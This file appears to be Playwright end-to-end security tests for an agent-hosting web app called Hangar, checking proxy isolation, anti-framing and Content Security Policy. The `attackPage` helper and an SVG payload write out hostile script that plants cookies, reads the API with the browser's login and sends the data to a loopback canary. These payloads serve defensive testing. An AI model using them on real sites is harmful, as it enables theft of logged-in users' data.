import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";

import { replaceOpencodeServer } from "../support/hostile-opencode";
import {
  AGENTS,
  apiCall,
  createAgent,
  expect,
  SESSIONS,
  stopQuietly,
  test,
  unique,
  waitForSession,
} from "./fixtures";

/*
 * A logged-in browser against a hostile sandbox and a stranger's page. The canary is a server on
 * another loopback host (127.0.0.2: cookies ignore ports, so another port would share Hangar's jar)
 * that records every request: what the attacker's script would send home.
 */

type Canary = { origin: string; hits: string[]; close: () => Promise<void> };

/** The attacker's page: reads the API with the browser's login, sends it home, plants cookies. */
function attackPage(canary: string, from: string) {
  return `<!doctype html><title>hostile</title><script>
    document.cookie = "planted_by_script=1; path=/";
    new Image().src = "${canary}/hit?from=${from}-img";
    fetch("/api/v1/managed_agents/agents", { credentials: "include" })
      .then((r) => r.text())
      .then((t) => fetch("${canary}/hit?from=${from}-fetch", { method: "POST", mode: "no-cors", body: t }))
      .catch(() => fetch("${canary}/hit?from=${from}-ran"));
  </script>`;
}

async function startCanary(hangar: string): Promise<Canary> {
  const hits: string[] = [];
  let origin = "";
  const server = http.createServer((req, res) => {
    const url = req.url ?? "/";
    if (url.startsWith("/hit")) {
      hits.push(url);
      res.writeHead(204, { "access-control-allow-origin": "*" }).end();
    } else if (url === "/control") {
      // The same attack with no Hangar in between: proves the canary would see it run.
      res.writeHead(200, { "content-type": "text/html" }).end(attackPage(origin, "control"));
    } else if (url === "/frame") {
      res
        .writeHead(200, { "content-type": "text/html" })
        .end(
          `<h1>stranger</h1><iframe id="hangar" src="${hangar}/agents"></iframe><iframe id="plain" src="/plain"></iframe>`,
        );
    } else {
      res.writeHead(200, { "content-type": "text/html" }).end("<p>PLAIN FRAME</p>");
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.2", resolve));
  origin = `http://127.0.0.2:${(server.address() as AddressInfo).port}`;
  return { origin, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

test("[SECURITY] a page a sandbox serves through the opencode proxy cannot act in Hangar's origin", async ({
  page,
  context,
  request,
  baseURL,
}) => {
  test.setTimeout(150_000);
  const canary = await startCanary(baseURL!);
  const agent = await createAgent(request, {
    name: unique("hostile"),
    harness_id: "opencode",
    model: "hangar-test-model",
  });
  let sessionId: string | undefined;
  try {
    const created = await apiCall(request, "POST", `${AGENTS}/${agent.id}/session`, {});
    sessionId = created.body.id as string;
    await waitForSession(request, sessionId, ["ready"], 90_000);
    const html = attackPage(canary.origin, "sandbox");
    const dataDir = path.dirname(process.env.HANGAR_UI_LOG as string);
    await replaceOpencodeServer(
      dataDir,
      sessionId,
      `(url) => {
        const headers = { "x-hostile": "1", "set-cookie": "planted_by_header=1; Path=/" };
        const body = ${JSON.stringify(html)};
        if (url === "/evil.svg") return { headers: { ...headers, "content-type": "image/svg+xml" }, body: ${JSON.stringify(
          `<svg xmlns="http://www.w3.org/2000/svg"><script>new Image().src = "${canary.origin}/hit?from=sandbox-svg";</script></svg>`,
        )} };
        if (url === "/notype") return { headers, body };
        if (url === "/json") return { headers: { ...headers, "content-type": "application/json" }, body };
        return { headers: { ...headers, "content-type": "text/html" }, body };
      }`,
    );
    const before = (await context.cookies()).find((c) => c.name === "hangar_session");
    expect(before).toBeTruthy();

    // The control: the same page served from the canary's origin runs and reports home.
    await page.goto(`${canary.origin}/control`);
    await expect.poll(() => canary.hits.filter((h) => h.includes("from=control")).length).toBeGreaterThan(0);

    // Opened as top-level pages of Hangar's origin, in the logged-in browser: downloads, never pages.
    for (const name of ["/evil", "/evil.svg", "/notype"]) {
      const download = page.waitForEvent("download", { timeout: 10_000 });
      await page.goto(`${SESSIONS}/${sessionId}/opencode${name}`).catch(() => undefined);
      const file = await download;
      expect(file.url(), name).toContain(`/opencode${name}`);
      await file.cancel();
    }
    // JSON is shown as text, in a sandboxed document: the markup inside is never run.
    await page.goto(`${SESSIONS}/${sessionId}/opencode/json`);
    await expect(page.locator("body")).toContainText("planted_by_script");
    await page.waitForTimeout(1500);

    expect(canary.hits.filter((h) => h.includes("from=sandbox"))).toEqual([]);
    const cookies = await context.cookies(baseURL!);
    expect(cookies.map((c) => c.name).filter((n) => n.startsWith("planted"))).toEqual([]);
    expect(cookies.find((c) => c.name === "hangar_session")?.value).toBe(before!.value);
    // The login still works.
    await page.goto("/agents");
    await expect(page.getByRole("heading", { level: 1, name: "Agents" })).toBeVisible();
  } finally {
    await stopQuietly(request, sessionId);
    await canary.close();
  }
});

test("[SECURITY] a stranger's page cannot frame Hangar", async ({ page, baseURL }) => {
  const canary = await startCanary(baseURL!);
  const refusals: string[] = [];
  page.on("console", (message) => {
    if (message.text().includes("frame-ancestors")) refusals.push(message.text());
  });
  try {
    await page.goto(`${canary.origin}/frame`);
    // The control frame from the stranger's own origin loads; Hangar's does not.
    const plain = page.frameLocator("#plain");
    await expect(plain.getByText("PLAIN FRAME")).toBeVisible();
    await expect.poll(() => refusals.length).toBeGreaterThan(0);
    // No frame holds a document of Hangar's origin (the refused one shows the browser's error page).
    expect(page.frames().filter((f) => f.url().startsWith(baseURL!))).toEqual([]);
    await expect(page.frameLocator("#hangar").getByRole("heading", { name: "Agents" })).toHaveCount(0);
    await expect(page.frameLocator("#hangar").getByText("Log in to Hangar")).toHaveCount(0);
  } finally {
    await canary.close();
  }
});

test("[SECURITY] Hangar's own pages run under the CSP without a single violation", async ({ page }) => {
  const violations: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      console.error(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  for (const path of [
    "/docs/api",
    "/agents/new",
    "/skills",
    "/skills/new",
    "/sessions",
    "/members",
    "/api-keys",
    "/audit",
    "/invite/not-a-real-token",
    "/agents",
  ]) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 }).first(), path).toBeVisible();
    // Hydrated: client-side navigation works (a blocked script would leave a dead page).
    await page.waitForLoadState("networkidle");
  }
  await page.getByRole("link", { name: "Skills" }).first().click();
  await expect(page).toHaveURL(/\/skills$/);
  expect(violations).toEqual([]);
});
